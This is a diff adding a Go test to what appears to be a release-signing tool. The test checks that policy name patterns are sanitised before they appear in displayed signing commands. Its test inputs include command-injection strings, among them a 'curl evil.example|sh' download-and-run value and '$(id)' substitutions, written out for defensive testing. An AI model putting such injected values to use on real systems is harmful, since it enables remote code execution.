@@ -122,3 +122,22 @@ func TestProgressWithoutCertificate(t *testing.T) {
 		}
 	}
 }
+
+// What is shown to be run is nothing that a pattern of the charter's says to a shell.
+func TestCommandsAreNoOnesElse(t *testing.T) {
+	c, ref := head(t)
+	for pattern, want := range map[string]string{
+		"nightly-*": "nightly-FILE", "*.exe": "FILE.exe", "bin/*.tar.gz": "bin/FILE.tar.gz",
+		"a;curl evil.example|sh;*": "FILE", "$(id)*": "FILE", "`id`*": "FILE", "a b*": "FILE", "--key*": "FILE", "[a-z]*": "FILE", "a?": "FILE", "a&b": "FILE", "a>b": "FILE", "a\"b": "FILE",
+	} {
+		p := c.Policies["release"]
+		p.Names = []string{pattern}
+		c.Policies["release"] = p
+		s := template.Progress("release", template.Facts{Charter: c, Ref: ref, Now: now,
+			Keys: []template.KeyFact{{Name: p.Key, State: "active", Generated: true, Chain: [][]byte{{0}}}}})
+		all := strings.Join(s.Steps[len(s.Steps)-1].Commands, "\n")
+		if got, _, ok := strings.Cut(strings.TrimPrefix(all, "greatseal sign "), " --policy"); !ok || got != want {
+			t.Errorf("%q: %q", pattern, all)
+		}
+	}
+}
